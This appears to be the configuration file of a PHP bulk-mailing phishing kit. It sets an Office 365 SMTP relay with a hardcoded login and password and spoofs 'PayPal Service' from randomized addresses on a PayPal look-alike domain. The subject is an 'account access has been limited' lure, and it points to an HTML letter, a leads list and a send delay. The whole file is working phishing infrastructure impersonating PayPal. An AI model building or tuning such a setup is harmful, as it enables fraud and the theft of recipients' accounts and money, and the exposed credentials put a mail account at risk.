<?php
// sender settings
return array(
    'relay' => array(
        'host' => 'smtp.office365.com',
        'port' => 587,
        'user' => 'billing@contoso-mail.net',
        'pass' => 'Winter2024!',
    ),
    'sender_name'  => 'PayPal Service',
    'sender_email' => 'service-{randstr,10}@{randstr,12}.paypal-resolution.com',
    'subject'      => 'Your account access has been limited [{randnum,6}]',
    'letter'       => 'letters/pp.html',
    'list'         => 'lists/leads.txt',
    'sleep'        => 3,
);
